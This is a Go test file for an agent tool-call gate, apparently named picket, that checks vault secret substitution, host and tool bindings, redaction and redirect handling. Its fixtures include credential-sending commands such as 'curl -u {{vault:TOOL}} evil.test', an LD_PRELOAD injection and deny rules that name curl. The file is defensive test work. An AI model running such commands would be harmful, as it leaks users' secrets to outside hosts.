package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"

	"picket/tools"
)

// secretRig is a gate with the real tools, none of which runs, and a vault.
type secretRig struct {
	*gateRig
	vault map[string]vaultEntry
	ran   []*tools.Call
	cards []Card
}

func newSecretRig(t *testing.T) *secretRig {
	r := &secretRig{gateRig: newGateRig(t), vault: map[string]vaultEntry{}}
	for _, tool := range []tools.Tool{tools.Files, tools.Shell, tools.Python, tools.WebFetch, tools.AskUser} {
		tool.Execute = func(_ context.Context, c *tools.Call) tools.Output { r.ran = append(r.ran, c); return tools.Output{} }
		r.gate.tools[tool.Name] = tool
	}
	r.gate.lookup = func(name string) (vaultEntry, bool, error) { e, ok := r.vault[name]; return e, ok, nil }
	red := newRedactor(nil)
	r.gate.redact, r.gate.holds = red.String, red.Holds
	for _, e := range []vaultEntry{
		{Name: "FREE", Value: "free-value-0001"},
		{Name: "HOST", Value: "host-value-0002", Hosts: []string{"api.example.com", "*.example.org"}},
		{Name: "TOOL", Value: "tool-value-0003", Tools: []string{"shell"}},
		{Name: "BOTH", Value: "both-value-0004", Hosts: []string{"api.example.com"}, Tools: []string{"web_fetch"}},
		{Name: "ODD", Value: "a/../b?c=d&e#f\n\"' %", Hosts: []string{"api.example.com"}},
		{Name: "DOTS", Value: "..", Hosts: []string{"api.example.com"}},
		{Name: "LOOP", Value: "{{vault:FREE}}", Hosts: []string{"api.example.com"}},
	} {
		r.vault[e.Name] = e
	}
	var list []secretValue
	for _, e := range r.vault {
		if e.Name != "LOOP" { // a value that is a name is not for a redactor
			list = append(list, secretValue{Name: e.Name, Value: e.Value})
		}
	}
	red.Update(list)
	r.turn.Caller.Ask = func(_ context.Context, c Card) (Answer, error) {
		r.cards = append(r.cards, c)
		return Answer{Allow: true}, nil
	}
	return r
}

func (r *secretRig) do(tool string, args any) Result {
	b, err := json.Marshal(args)
	if err != nil {
		r.t.Fatal(err)
	}
	return r.gate.Do(context.Background(), r.turn, call(tool, string(b)))
}

type object map[string]any

// Where no secret may stand, or none is known, the call is refused, and the vault
// is not asked for what may not be used.
func TestSecretsRefused(t *testing.T) {
	for name, c := range map[string]struct {
		tool, args, want string
	}{
		"the content of a file":     {"files", `{"action":"write","path":"a","content":"x {{vault:FREE}}"}`, `"content"`},
		"a path":                    {"files", `{"action":"read","path":"{{vault:FREE}}"}`, `"path"`},
		"Python code":               {"python_execute", `{"code":"print('{{vault:FREE}}')"}`, "takes one in env"},
		"a question":                {"ask_user", `{"question":"is it {{vault:FREE}}?"}`, "no argument of ask_user"},
		"an escaped one":            {"files", `{"action":"write","path":"a","content":"\u007b\u007bvault:FREE}}"}`, `"content"`},
		"a malformed one":           {"files", `{"action":"write","path":"a","content":"{{vault:FREE"}`, `"content"`},
		"a malformed one in a line": {"shell", `{"command":"echo {{vault:FR EE}}"}`, "{{vault:NAME}}"},
		"the name of a header":      {"web_fetch", `{"url":"https://api.example.com/","headers":{"X-{{vault:FREE}}":"v"}}`, "header name"},
		"the name of a variable":    {"shell", `{"command":"true","env":{"{{vault:FREE}}":"{{vault:FREE}}"}}`, "name of a variable"},
		"a malformed header":        {"web_fetch", `{"url":"https://api.example.com/","headers":{"X":"{{vault:FREE}"}}`, "{{vault:NAME}}"},
		"the method":                {"web_fetch", `{"url":"https://api.example.com/","method":"{{vault:FREE}}"}`, `"method"`},
		"the scheme":                {"web_fetch", `{"url":"{{vault:FREE}}://api.example.com/"}`, "https://"},
		"the host":                  {"web_fetch", `{"url":"https://{{vault:FREE}}/"}`, "host"},
		"a part of the host":        {"web_fetch", `{"url":"https://{{vault:FREE}}.example.com/"}`, "host"},
		"the port":                  {"web_fetch", `{"url":"https://example.com:{{vault:FREE}}/"}`, "port"},
		"the user":                  {"web_fetch", `{"url":"https://{{vault:FREE}}@example.com/"}`, "user name"},
		"the fragment":              {"web_fetch", `{"url":"https://api.example.com/#{{vault:FREE}}"}`, "path and the query"},
		"a segment taken out":       {"web_fetch", `{"url":"https://api.example.com/{{vault:FREE}}/../x"}`, "path and the query"},
		"an unknown name":           {"shell", `{"command":"echo {{vault:NONE}}"}`, "picket vault set NONE"},
		"an unknown name in env":    {"python_execute", `{"code":"pass","env":{"K":"{{vault:NONE}}"}}`, "picket vault set NONE"},
		"another case":              {"shell", `{"command":"echo {{vault:free}}"}`, "picket vault set free"},
		"a variable that steers":    {"shell", `{"command":"true","env":{"LD_PRELOAD":"{{vault:FREE}}"}}`, "steers"},
		"a value in clear":          {"shell", `{"command":"echo free-value-0001"}`, "holds the value"},
		"a value in clear, escaped": {"files", `{"action":"write","path":"a","content":"\u0066ree-value-0001"}`, "holds the value"},
		"a value in base64":         {"shell", `{"command":"echo ZnJlZS12YWx1ZS0wMDAx | base64 -d"}`, "holds the value"},
	} {
		t.Run(name, func(t *testing.T) {
			r := newSecretRig(t)
			res := r.gate.Do(context.Background(), r.turn, call(c.tool, c.args))
			if !strings.Contains(res.Text, c.want) || len(r.ran) > 0 || len(r.cards) > 0 {
				t.Errorf("%q (ran %d, asked %d), want %q", res.Text, len(r.ran), len(r.cards), c.want)
			}
			r.wantRecords("deny", 0)
			for _, form := range []string{"free-value-0001", "ZnJlZS12YWx1ZS0wMDAx"} {
				if text := fmt.Sprint(r.records("decision"), res.Text); strings.Contains(text, form) {
					t.Errorf("the value stands in %s", text)
				}
			}
		})
	}
}

// A tool that does not tell what it does with a placeholder does not get the call.
func TestSecretsUntold(t *testing.T) {
	r := newSecretRig(t)
	tool := r.gate.tools["act"]
	tool.AcceptsSecrets = []string{"x"}
	r.gate.tools["act"] = tool
	if res := r.do("act", object{"x": "{{vault:FREE}}"}); r.gateRig.ran.Load() != 0 || !strings.Contains(res.Text, "cannot stand there") {
		t.Errorf("%+v", res)
	}
}

// Values reach the call that runs, and nothing that was decided about.
func TestSecretsPutIn(t *testing.T) {
	r := newSecretRig(t)
	r.do("shell", object{"command": "curl -u x:{{vault:TOOL}} '{{vault:FREE}}'", "env": object{"API": "{{ vault:FREE }}"}})
	r.do("python_execute", object{"code": "pass", "env": object{"K": "{{vault:LOOP}}"}})
	r.do("web_fetch", object{"url": "https://API.example.com:443/{{vault:HOST}}/x?k={{ vault:ODD }}&l={{vault:LOOP}}",
		"headers": object{"Authorization": "Bearer {{vault:HOST}}", "X": "{{vault:LOOP}}"}})
	if len(r.ran) != 3 {
		t.Fatalf("%d calls ran: %v", len(r.ran), r.records("decision"))
	}
	want := map[string]string{"API": "free-value-0001", "PICKET_SECRET_1": "tool-value-0003", "PICKET_SECRET_2": "free-value-0001"}
	if got := r.ran[0].Secrets; !maps.Equal(got, want) || strings.Contains(fmt.Sprint(r.ran[0].Args), "value-000") {
		t.Errorf("the shell got %q with %v", got, r.ran[0].Args)
	}
	if got := r.ran[1].Secrets; !maps.Equal(got, map[string]string{"K": "{{vault:FREE}}"}) {
		t.Errorf("Python got %q", got)
	}
	args := r.ran[2].Args
	if u := args.String("url"); u != "https://api.example.com/host-value-0002/x?k=a%2F..%2Fb%3Fc%3Dd%26e%23f%0A%22%27%20%25&l=%7B%7Bvault%3AFREE%7D%7D" {
		t.Errorf("the URL is %q", u)
	}
	if h := args.Map("headers"); h["Authorization"] != "Bearer host-value-0002" || h["X"] != "{{vault:FREE}}" {
		t.Errorf("the headers are %q", h)
	}
	for _, c := range r.ran {
		if text := fmt.Sprintf("%+v %+v", c.Plan, c.Judgement); strings.Contains(text, "value-000") {
			t.Errorf("a value is in %s", text)
		}
	}
	if text := fmt.Sprint(r.records("decision"), r.cards); strings.Contains(text, "value-000") || !strings.Contains(text, "{{vault:TOOL}}") {
		t.Errorf("recorded and shown: %s", text)
	}
}

// A value that would lead a fetch elsewhere, or break a header, is not sent.
func TestSecretsThatFitNowhere(t *testing.T) {
	for name, args := range map[string]object{
		"two dots as a segment":     {"url": "https://api.example.com/a/{{vault:DOTS}}/b"},
		"a line break in a header":  {"url": "https://api.example.com/", "headers": object{"X": "{{vault:ODD}}"}},
		"a header longer than many": {"url": "https://api.example.com/", "headers": object{"X": "{{vault:LONG}}"}},
	} {
		t.Run(name, func(t *testing.T) {
			r := newSecretRig(t)
			r.vault["LONG"] = vaultEntry{Name: "LONG", Value: strings.Repeat("long", 4<<10), Hosts: []string{"api.example.com"}}
			tool := r.gate.tools["web_fetch"]
			tool.Execute = tools.WebFetch.Execute
			r.gate.tools["web_fetch"] = tool
			res := r.do("web_fetch", args)
			if d := r.records("result"); len(d) != 1 || d[0]["ok"] == true || strings.Contains(fmt.Sprint(d, res), "a/../b") || strings.Contains(fmt.Sprint(d, res), "no such host") {
				t.Errorf("%+v %v", res, d)
			}
		})
	}
}

// An unbound secret, and one outside its binding, asks each time; a use that the
// owner bound it to does not.
func TestSecretBindings(t *testing.T) {
	offline := tools.Judgement{Egress: tools.Egress{Kind: tools.EgressNone}, Targets: []tools.Target{{Key: "shell:jq"}}}
	online := tools.Judgement{Network: true, Targets: []tools.Target{{Key: "shell:curl"}, {Key: "shell:jq"}}}
	hosts := tools.Judgement{Network: true, Targets: []tools.Target{{Key: "shell:curl"}}, Egress: tools.Egress{Kind: tools.EgressHosts, Hosts: []string{"api.example.com"}}}
	named := hosts
	named.Targets = []tools.Target{{Key: "shell:curl"}, {Key: "net:api.example.com"}}
	fetch := func(scheme string, host ...string) tools.Judgement {
		return tools.Judgement{URL: scheme + "://" + host[0] + "/", Targets: []tools.Target{{Key: "web_fetch:" + host[0]}},
			Egress: tools.Egress{Kind: tools.EgressHosts, Hosts: host}}
	}
	none, host, tool := vaultEntry{Name: "K"}, vaultEntry{Name: "K", Hosts: []string{"api.example.com", "*.example.org"}}, vaultEntry{Name: "K", Tools: []string{"shell", "web_fetch"}}
	both := vaultEntry{Name: "K", Hosts: host.Hosts, Tools: tool.Tools}
	for _, c := range []struct {
		name  string
		entry vaultEntry
		tool  string
		j     tools.Judgement
		line  string
		warns bool
	}{
		{"unbound, fetch", none, "web_fetch", fetch("https", "evil.test"), "K → evil.test", true},
		{"unbound, shell", none, "shell", online, "K → curl, jq, any host", true},
		{"unbound, shell to hosts that have keys", none, "shell", named, "K → curl, api.example.com", true},
		{"unbound, shell without network", none, "shell", offline, "K → jq", true},
		{"unbound, Python", none, "python_execute", tools.Judgement{Targets: []tools.Target{{Key: "python_execute"}}}, "K → python_execute, any host", true},
		{"unbound, nothing sent", none, "act", offline, "K → act", true},
		{"host, its host", host, "web_fetch", fetch("https", "api.example.com"), "K → api.example.com", false},
		{"host, a pattern", host, "web_fetch", fetch("https", "a.example.org"), "K → a.example.org", false},
		{"host, another", host, "web_fetch", fetch("https", "evil.test"), "K → evil.test", true},
		{"host, one below it", host, "web_fetch", fetch("https", "a.api.example.com"), "K → a.api.example.com", true},
		{"host, another port", host, "web_fetch", fetch("https", "api.example.com:8443"), "K → api.example.com:8443", true},
		{"host, in clear", host, "web_fetch", fetch("http", "api.example.com"), "K → api.example.com over http, so that all on the way can read it", true},
		{"host, shell", host, "shell", hosts, "K → curl, api.example.com", true},
		{"tool, fetch", tool, "web_fetch", fetch("https", "api.example.com"), "K → api.example.com", true},
		{"tool, its tool", tool, "shell", online, "K → curl, jq, any host", false},
		{"tool, another", tool, "python_execute", offline, "K → python_execute", true},
		{"both, fetch", both, "web_fetch", fetch("https", "api.example.com"), "K → api.example.com", false},
		{"both, shell to any host", both, "shell", online, "K → curl, jq, any host", true},
		{"both, shell to that host", both, "shell", hosts, "K → curl, api.example.com", false},
		{"both, shell without network", both, "shell", offline, "K → jq", false},
		{"both, hosts that contradict", both, "shell", tools.Judgement{Network: true, Egress: tools.Egress{Kind: tools.EgressHosts}}, "K → shell, any host", true},
		{"both, another host too", both, "web_fetch", fetch("https", "api.example.com", "evil.test"), "K → api.example.com, evil.test", true},
	} {
		t.Run(c.name, func(t *testing.T) {
			lines, warnings := secretWarnings([]vaultEntry{c.entry}, c.tool, &c.j)
			if !slices.Equal(lines, []string{c.line}) || (len(warnings) > 0) != c.warns || c.warns && warnings[0] != "secret "+c.line {
				t.Errorf("%q, warns %q; want %q, %v", lines, warnings, c.line, c.warns)
			}
		})
	}
}

// A warning asks once only and in every mode; the card names the secret and where
// it goes.
func TestSecretsAsk(t *testing.T) {
	r := newSecretRig(t)
	r.gate.policy = mustPolicy(t, sentinelConfig{Mode: "auto"}) // and no labels, which ask too
	for range 2 {
		r.do("web_fetch", object{"url": "https://api.example.com/?k={{vault:FREE}}"})
	}
	r.do("web_fetch", object{"url": "https://api.example.com/?k={{vault:HOST}}"})
	r.do("web_fetch", object{"url": "https://other.test/?k={{vault:HOST}}"})
	if len(r.cards) != 3 || len(r.ran) != 4 {
		t.Fatalf("asked %d times, ran %d", len(r.cards), len(r.ran))
	}
	for i, want := range []string{"FREE → api.example.com", "FREE → api.example.com", "HOST → other.test"} {
		if c := r.cards[i]; !slices.Contains(c.Lines, "secret: "+want) || !slices.Contains(c.Lines, "  - secret "+want) ||
			!slices.Equal(c.Offered, []tools.Scope{tools.Once}) {
			t.Errorf("card %d: %q %v", i, c.Lines, c.Offered)
		}
	}
	if d := r.records("decision"); fmt.Sprint(d[0]["reasons"]) != "[secret FREE → api.example.com]" || d[0]["step"] != stepWarnings {
		t.Errorf("%v", d[0])
	}
}

// What became of the secret while the question waited counts.
func TestSecretsChangedMeanwhile(t *testing.T) {
	for name, change := range map[string]func(map[string]vaultEntry){
		"deleted": func(v map[string]vaultEntry) { delete(v, "HOST") },
		"bound to another host": func(v map[string]vaultEntry) {
			v["HOST"] = vaultEntry{Name: "HOST", Value: "host-value-0002", Hosts: []string{"else.test"}}
		},
	} {
		t.Run(name, func(t *testing.T) {
			r := newSecretRig(t)
			r.gate.mode = func() string { return "strict" }
			asked := 0
			r.turn.Caller.Ask = func(context.Context, Card) (Answer, error) {
				if asked++; asked == 1 {
					change(r.vault)
					return Answer{Allow: true}, nil
				}
				return Answer{}, nil
			}
			r.do("web_fetch", object{"url": "https://api.example.com/?k={{vault:HOST}}"})
			if len(r.ran) != 0 || len(r.records("decision")) != 1 {
				t.Errorf("ran %d times: %v", len(r.ran), r.records("decision"))
			}
		})
		t.Run(name+" after the decision", func(t *testing.T) {
			r := newSecretRig(t)
			lookups := 0
			was := r.gate.lookup
			r.gate.lookup = func(name string) (vaultEntry, bool, error) {
				if lookups++; lookups == 2 {
					change(r.vault)
				}
				return was(name)
			}
			res := r.do("web_fetch", object{"url": "https://api.example.com/?k={{vault:HOST}}"})
			if len(r.ran) != 0 || !strings.Contains(res.Text, "so the call was not run") {
				t.Errorf("ran %d times: %+v", len(r.ran), res)
			}
		})
	}
}

func TestSecretsVaultUnreadable(t *testing.T) {
	r := newSecretRig(t)
	r.gate.lookup = func(string) (vaultEntry, bool, error) { return vaultEntry{}, false, errVaultKey }
	if res := r.do("shell", object{"command": "echo {{vault:FREE}}"}); !res.Refused || len(r.ran) != 0 {
		t.Errorf("%+v", res)
	}
	r.gate.ready = func() error { return errVaultBody }
	if res := r.do("files", object{"action": "list", "path": "."}); !res.Refused || len(r.ran) != 0 {
		t.Errorf("without a vault: %+v", res)
	}
}

// A placeholder dodges no rule: those that deny see the line as written and as it
// runs; those that allow see it as written.
func TestSecretsAndRules(t *testing.T) {
	for name, c := range map[string]struct {
		rule    ruleConfig
		command string
		want    string
	}{
		"deny by name":           {shellRule("deny", "*{{vault:TOOL}}*"), "jq '{{vault:TOOL}}' f", "deny"},
		"deny by reference":      {shellRule("deny", "*$*"), "jq {{vault:TOOL}} f", "deny"},
		"deny behind one":        {shellRule("deny", "curl * evil.test"), "curl -u {{vault:TOOL}} evil.test", "deny"},
		"deny one of several":    {shellRule("deny", "curl *"), "jq {{vault:TOOL}} f | curl -u {{vault:TOOL}}  h", "deny"},
		"allow as written":       {shellRule("allow", "jq {{vault:TOOL}} *"), "jq {{vault:TOOL}} f", "allow"},
		"allow does not stretch": {shellRule("allow", "jq {{vault:TOOL}} *"), "jq {{vault:FREE}} f", "ask"},
	} {
		t.Run(name, func(t *testing.T) {
			r := newSecretRig(t)
			r.gate.policy = mustPolicy(t, ruled(c.rule))
			r.turn.Caller.Ask = func(context.Context, Card) (Answer, error) { return Answer{}, errors.New("ask") }
			r.do("shell", object{"command": c.command})
			d := r.records("decision")[0]
			got := fmt.Sprint(d["verdict"])
			if got == "deny" && d["by"] != "rule" {
				got = "ask"
			}
			if got != c.want {
				t.Errorf("%s: %v", got, d)
			}
		})
	}
}

// A redirect brings no secret to another host, and names none.
func TestSecretsAndRedirects(t *testing.T) {
	r := newSecretRig(t)
	tool := r.gate.tools["web_fetch"]
	got := map[string]error{}
	tool.Execute = func(ctx context.Context, c *tools.Call) tools.Output {
		for _, u := range []string{"https://api.example.com/x?k=host-value-0002", "https://api.example.com/?k={{vault:FREE}}",
			"https://host-value-0002.test/", "https://else.example.net/?k=host-value-0002", "https://else.example.net/"} {
			got[u] = c.Host.Hop(ctx, u)
		}
		return tools.Output{}
	}
	r.gate.tools["web_fetch"] = tool
	r.do("web_fetch", object{"url": "https://api.example.com/?k={{vault:HOST}}"})
	for u, err := range got {
		if want := u == "https://api.example.com/x?k=host-value-0002" || u == "https://else.example.net/"; (err == nil) != want {
			t.Errorf("%s: %v", u, err)
		}
	}
	if text := fmt.Sprint(r.records("egress")); len(got) != 5 || strings.Contains(text, "host-value-0002") {
		t.Errorf("recorded: %s", text)
	}
}

func TestRedactJSON(t *testing.T) {
	red := newRedactor([]secretValue{{Name: "K", Value: `sec"ret\value`}}).String
	for raw, want := range map[string]string{
		`{"a":"sec\"ret\\value","b":1}`:           `{"a":"{{vault:K}}","b":1}`,
		`{"b":2,"a":"x sec\"ret\\value\n"}`:       `{"b":2,"a":"x {{vault:K}}\n"}`,
		`{"a":"\u0073\u0065c\"re\u0074\\value"}`:  `{"a":"{{vault:K}}"}`,
		`{"sec\u0022ret\\value":[ "\\","\/é" ] }`: `{"{{vault:K}}":[ "\\","\/é" ] }`,
		`no JSON: sec"ret\value`:                  `no JSON: {{vault:K}}`,
		`{"a":"b"}`:                               `{"a":"b"}`,
	} {
		if got := redactJSON(raw, red); got != want {
			t.Errorf("%s: %s, want %s", raw, got, want)
		}
	}
}

// A call that has a secret may connect, unasked, to no host that the secret is not
// bound to, also where the mode lets every call run.
func TestSecretsStayWithTheirHosts(t *testing.T) {
	for host, asks := range map[string]bool{"api.example.com": false, "a.example.org": false, "evil.test": true} {
		r := newSecretRig(t)
		r.gate.policy = mustPolicy(t, sentinelConfig{Mode: "auto"})
		e := r.vault["HOST"]
		e.Tools = []string{"shell"}
		r.vault["HOST"] = e
		tool := r.gate.tools["shell"]
		tool.Execute = func(ctx context.Context, c *tools.Call) tools.Output {
			c.Host.Exec(ctx, tools.Command{Argv: []string{"true"}})
			return tools.Output{}
		}
		r.gate.tools["shell"] = tool
		r.gate.host.Exec = func(ctx context.Context, c tools.Command) tools.ExecResult {
			err := c.Connect(ctx, tools.Dest{Host: host, Port: 443, Method: "CONNECT"})
			if err != nil {
				t.Error(err)
			}
			return tools.ExecResult{Started: true}
		}
		c := &callState{id: "c_1", t: r.turn, tool: tool, plan: tools.Plan{Secrets: []tools.SecretUse{{Name: "HOST", Param: "env", Var: "K"}}},
			j: tools.Judgement{Boxed: true, Network: true, Proxied: true, Egress: tools.Egress{Kind: tools.EgressHosts}}}
		r.gate.run(context.Background(), c)
		if (len(r.cards) > 0) != asks {
			t.Errorf("%s: asked %d times", host, len(r.cards))
		}
		if asks && !slices.Contains(r.cards[0].Lines, "secret: HOST → shell, evil.test") {
			t.Errorf("%q", r.cards[0].Lines)
		}
	}
}
